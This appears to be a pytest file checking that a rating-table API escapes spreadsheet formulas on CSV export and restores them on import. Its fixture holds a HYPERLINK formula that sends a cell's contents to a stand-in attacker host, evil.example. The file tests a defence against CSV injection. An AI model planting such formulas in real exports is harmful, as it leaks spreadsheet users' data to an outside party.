"""GET /v1/rating-tables/NAME/export?format=csv: a reason that is a spreadsheet formula is
exported behind a ``'`` and imported back as it was stored."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

pytestmark = pytest.mark.anyio

_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'


async def test_a_formula_reason_is_exported_inert_and_imports_back_unchanged(client: httpx.AsyncClient) -> None:
    table = {"name": "lab-formula", "description": "", "source": "@SUM(1+1)",
             "ratings": [{"algorithm": "aes128", "confidentiality": 8, "performance": 8, "reason": _FORMULA,
                          "source": "-2+3"}]}
    assert (await client.post("/v1/rating-tables", json=table)).status_code == 201
    exported = await client.get("/v1/rating-tables/lab-formula/export", params={"format": "csv"})
    assert exported.status_code == 200
    row = next(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert row["reason"] == "'" + _FORMULA
    assert row["source"] == "'-2+3"
    r = await client.post("/v1/rating-tables/import", params={"format": "csv", "name": "lab-formula-copy"},
                          content=exported.text, headers={"content-type": "text/plain"})
    assert r.status_code == 201, r.text
    copy = (await client.get("/v1/rating-tables/lab-formula-copy")).json()["ratings"]
    assert copy[0]["reason"] == _FORMULA
    assert copy[0]["source"] == "-2+3"
